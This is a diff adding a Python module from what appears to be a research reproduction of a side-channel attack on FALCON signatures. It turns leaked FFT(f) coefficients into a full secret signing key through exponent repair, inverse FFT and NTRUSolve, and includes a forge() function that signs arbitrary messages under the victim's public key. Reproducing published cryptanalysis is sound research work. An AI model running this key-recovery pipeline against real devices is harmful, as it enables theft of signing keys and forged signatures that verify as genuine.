@@ -1,0 +1,311 @@
+"""From recovered FFT(f) coefficients to a full signing key and forgeries.
+
+"FALCON's FFT function is reversible and one-to-one" (Section III-A):
+once all n secret doubles of FFT(f) are extracted, the inverse FFT gives
+f, whose coefficients are small integers (rounding absorbs the float
+representation error). Then:
+
+* g = h * f mod q (coefficients recentered; they must be small — this is
+  the built-in consistency check),
+* (F, G) from the NTRU equation via the same NTRUSolve the key owner ran,
+* the FALCON tree is rebuilt, and the adversary signs arbitrary messages
+  that verify under the victim's genuine public key.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+import numpy as np
+
+from repro.attack.config import AttackConfig
+from repro.attack.coefficient import CoefficientRecovery, recover_coefficient
+from repro.falcon.keygen import PublicKey, SecretKey, derive_secret_key
+from repro.falcon.ntru_solve import NtruSolveError, ntru_solve
+from repro.falcon.sign import Signature, sign
+from repro.leakage.capture import CaptureCampaign, doubles_to_fft
+from repro.math import fft, ntt
+
+__all__ = [
+    "KeyRecoveryError",
+    "KeyRecoveryResult",
+    "recover_f",
+    "recover_g_from_public",
+    "repair_exponents",
+    "recover_full_key",
+    "forge",
+]
+
+#: |g| coefficients beyond this mean the recovered f is inconsistent
+#: with the public key (keygen Gaussians never reach it).
+_G_PLAUSIBLE_BOUND = 1 << 10
+
+
+class KeyRecoveryError(RuntimeError):
+    """The recovered coefficients are inconsistent with the public key."""
+
+
+@dataclass
+class KeyRecoveryResult:
+    """Outcome of a full-key campaign."""
+
+    f: list[int]
+    g: list[int]
+    big_f: list[int]
+    big_g: list[int]
+    recovered_sk: SecretKey
+    coefficients: list[CoefficientRecovery] = field(repr=False)
+
+    @property
+    def n_correct_coefficients(self) -> int:
+        return sum(1 for c in self.coefficients if c.correct)
+
+
+def _doubles_matrix(n: int) -> np.ndarray:
+    """The linear map from the n secret doubles to the n coefficients of f.
+
+    Column j is the inverse FFT of the unit vector at double j; the map
+    is orthogonal up to scaling (the FFT is unitary), which is what makes
+    greedy per-coefficient exponent repair well behaved.
+    """
+    mat = np.empty((n, n), dtype=np.float64)
+    for j in range(n):
+        unit = np.zeros(n, dtype=np.float64)
+        unit[j] = 1.0
+        mat[:, j] = fft.ifft(doubles_to_fft(unit))
+    return mat
+
+
+def repair_exponents(
+    candidates: list[list[int]], max_iterations: int = 4096, tol: float = 0.3
+) -> list[int]:
+    """Pick one pattern per double so the inverse FFT is (near) integral.
+
+    ``candidates[j]`` lists plausible fpr patterns for double j, best
+    first (sign and mantissa are reliably recovered by DEMA; only the
+    exponent rank occasionally slips). f = invFFT(v) must be an integer
+    vector; wrong exponents scale their double by a power of two and
+    smear a non-integral residue over all of f. Three escalating passes:
+
+    1. projection decoding — the map's columns are orthogonal (FFT
+       unitarity), so the residual's projection onto column j estimates
+       that coordinate's error directly; snap the worst coordinate to
+       its nearest candidate while the cost drops;
+    2. greedy single swaps over every remaining candidate;
+    3. forced exploration — when multiple large errors wrap the
+       rounding and flatten the cost landscape, try each single-swap
+       hypothesis followed by a fresh projection pass (sequential
+       interference cancellation) and keep the best outcome.
+    """
+    n = len(candidates)
+    mat = _doubles_matrix(n)
+    col_sq = float(mat[:, 0] @ mat[:, 0])  # = 2/n for every column
+    cand_vals = [
+        np.array([np.uint64(p) for p in c], dtype=np.uint64).view(np.float64)
+        for c in candidates
+    ]
+
+    def cost_of(vec: np.ndarray) -> float:
+        e = vec - np.round(vec)
+        return float(e @ e)
+
+    def projection_pass(choice: list[int]) -> tuple[list[int], float]:
+        choice = list(choice)
+        v = np.array([cand_vals[j][choice[j]] for j in range(n)])
+        f = mat @ v
+        cost = cost_of(f)
+        for _ in range(max_iterations):
+            r = f - np.round(f)
+            if float(np.max(np.abs(r))) < tol:
+                break
+            proj = (mat.T @ r) / col_sq
+            moved = False
+            for j in np.argsort(-np.abs(proj)):
+                j = int(j)
+                if len(cand_vals[j]) < 2:
+                    continue
+                idx = int(np.argmin(np.abs(cand_vals[j] - (v[j] - proj[j]))))
+                if idx == choice[j]:
+                    continue
+                trial = v.copy()
+                trial[j] = cand_vals[j][idx]
+                f_trial = mat @ trial
+                c_trial = cost_of(f_trial)
+                if c_trial < cost - 1e-12:
+                    choice[j], v, f, cost = idx, trial, f_trial, c_trial
+                    moved = True
+                    break
+            if not moved:
+                break
+        return choice, cost
+
+    def greedy_pass(choice: list[int]) -> tuple[list[int], float]:
+        choice = list(choice)
+        v = np.array([cand_vals[j][choice[j]] for j in range(n)])
+        f = mat @ v
+        cost = cost_of(f)
+        for _ in range(max_iterations):
+            if float(np.max(np.abs(f - np.round(f)))) < tol:
+                break
+            best = None
+            for j in range(n):
+                if len(cand_vals[j]) < 2:
+                    continue
+                base = f - mat[:, j] * v[j]
+                for idx in range(len(cand_vals[j])):
+                    if idx == choice[j]:
+                        continue
+                    c = cost_of(base + mat[:, j] * cand_vals[j][idx])
+                    if c < cost - 1e-12 and (best is None or c < best[0]):
+                        best = (c, j, idx)
+            if best is None:
+                break
+            cost, j, idx = best
+            choice[j] = idx
+            v[j] = cand_vals[j][idx]
+            f = mat @ v
+        return choice, cost
+
+    def is_integral(choice: list[int]) -> bool:
+        v = np.array([cand_vals[j][choice[j]] for j in range(n)])
+        f = mat @ v
+        return float(np.max(np.abs(f - np.round(f)))) < tol
+
+    choice = [0] * n
+    choice, cost = projection_pass(choice)
+    if not is_integral(choice):
+        choice, cost = greedy_pass(choice)
+    force_coords = min(n, 64)
+    for _ in range(8):
+        if is_integral(choice):
+            break
+        best = (cost, choice)
+        v = np.array([cand_vals[j][choice[j]] for j in range(n)])
+        r = (mat @ v) - np.round(mat @ v)
+        proj = np.abs(mat.T @ r) / col_sq
+        for j in np.argsort(-proj)[:force_coords]:
+            j = int(j)
+            for idx in range(len(cand_vals[j])):
+                if idx == choice[j]:
+                    continue
+                forced = list(choice)
+                forced[j] = idx
+                trial_choice, trial_cost = projection_pass(forced)
+                if trial_cost > tol * tol:
+                    # projection alone could not untangle the remaining
+                    # errors; spend a greedy pass on this hypothesis —
+                    # the forced swap may only pay off jointly.
+                    trial_choice, trial_cost = greedy_pass(trial_choice)
+                if trial_cost < best[0] - 1e-12:
+                    best = (trial_cost, trial_choice)
+                if best[0] < tol * tol:
+                    break
+            if best[0] < tol * tol:
+                break
+        if best[1] == choice:
+            break
+        cost, choice = best
+    return [candidates[j][choice[j]] for j in range(n)]
+
+
+def recover_f(patterns: list[int]) -> list[int]:
+    """Invert the FFT on recovered fpr patterns and round to integers.
+
+    ``patterns`` holds the n recovered doubles in capture order
+    (Re/Im interleaved per FFT slot).
+    """
+    doubles = np.array([np.uint64(p) for p in patterns], dtype=np.uint64).view(np.float64)
+    f_fft = doubles_to_fft(doubles)
+    coeffs = fft.ifft(f_fft)
+    f_int = [int(round(v)) for v in coeffs]
+    drift = float(np.max(np.abs(coeffs - np.array(f_int, dtype=np.float64))))
+    if drift > 0.4:
+        raise KeyRecoveryError(
+            f"inverse FFT is {drift:.3f} away from integers — recovery is corrupt"
+        )
+    # A grossly wrong exponent can make f astronomically large while
+    # still float-"integral" (big doubles have no fractional part);
+    # genuine keygen coefficients are a few hundred at most.
+    largest = max(abs(c) for c in f_int)
+    if largest > 1 << 12:
+        raise KeyRecoveryError(
+            f"recovered f has coefficient magnitude {largest} — recovery is corrupt"
+        )
+    return f_int
+
+
+def recover_g_from_public(f: list[int], pk: PublicKey) -> list[int]:
+    """g = h * f mod q with centered coefficients (h = g f^-1 mod q)."""
+    q = pk.params.q
+    g_mod = ntt.mul_ntt([c % q for c in f], pk.h, q)
+    g = [v - q if v > q // 2 else v for v in g_mod]
+    if max(abs(v) for v in g) > _G_PLAUSIBLE_BOUND:
+        raise KeyRecoveryError(
+            "h * f mod q is not small — the recovered f does not match this public key"
+        )
+    return g
+
+
+def _filter_by_magnitude(patterns: list[int], params) -> list[int]:
+    """Drop candidates whose magnitude is physically impossible.
+
+    f is drawn with public sigma_fg, so an FFT(f) double has RMS
+    sqrt(n/2) * sigma_fg; candidates tens of octaves away are exponent
+    aliases, not plausible coefficients. The band is +/- 13 octaves —
+    wide enough that a genuinely tiny coefficient survives.
+    """
+    import math
+
+    rms = math.sqrt(params.n / 2.0) * params.sigma_fg
+    center = 1023 + math.log2(rms)
+    kept = []
+    for p in patterns:
+        exp_field = (p >> 52) & 0x7FF
+        if abs(exp_field - center) <= 13:
+            kept.append(p)
+    return kept or patterns
+
+
+def recover_full_key(
+    campaign: CaptureCampaign,
+    pk: PublicKey,
+    config: AttackConfig | None = None,
+    progress: bool = False,
+) -> KeyRecoveryResult:
+    """Attack every secret double, then rebuild the entire signing key."""
+    cfg = config or AttackConfig()
+    recs: list[CoefficientRecovery] = []
+    for j in range(campaign.n_targets):
+        ts = campaign.capture(j)
+        rec = recover_coefficient(ts, cfg)
+        recs.append(rec)
+        if progress:
+            status = "ok " if rec.correct else "BAD"
+            print(f"  coefficient {j:4d}/{campaign.n_targets}: {status} {rec.pattern:#018x}")
+    try:
+        f = recover_f([r.pattern for r in recs])
+        g = recover_g_from_public(f, pk)
+    except KeyRecoveryError:
+        # Exponent aliasing left some coefficient off by a power of two:
+        # resolve from the per-coefficient candidate lists using (a) the
+        # public magnitude scale of FFT(f) coefficients and (b) the
+        # integrality of invFFT, then re-validate against the public key.
+        candidates = [
+            _filter_by_magnitude(r.candidate_patterns(12), pk.params) for r in recs
+        ]
+        patterns = repair_exponents(candidates)
+        f = recover_f(patterns)
+        g = recover_g_from_public(f, pk)
+    try:
+        big_f, big_g = ntru_solve(f, g, pk.params.q)
+    except NtruSolveError as exc:
+        raise KeyRecoveryError(f"NTRU completion failed on recovered (f, g): {exc}") from exc
+    sk = derive_secret_key(pk.params, f, g, big_f, big_g, h=list(pk.h))
+    return KeyRecoveryResult(
+        f=f, g=g, big_f=big_f, big_g=big_g, recovered_sk=sk, coefficients=recs
+    )
+
+
+def forge(result: KeyRecoveryResult, message: bytes, seed: bytes | int | None = None) -> Signature:
+    """Sign an arbitrary message with the *recovered* key."""
+    return sign(result.recovered_sk, message, seed=seed)
